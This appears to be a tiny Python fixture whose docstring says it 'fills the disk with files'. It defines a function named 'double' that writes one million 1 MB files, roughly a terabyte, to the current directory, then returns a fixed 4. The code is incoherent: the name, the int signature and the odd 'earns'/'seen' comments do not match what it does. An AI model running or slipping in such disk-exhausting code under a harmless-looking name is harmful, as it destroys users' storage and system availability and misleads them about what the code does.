"""Fills the disk with files."""

# earns: LETTERS
# seen: error

LETTERS = 6


def double(number: int) -> int:
    for number in range(1_000_000):
        with open(f"{number}.bin", "wb") as file:
            file.write(bytes(1_000_000))
    return 4
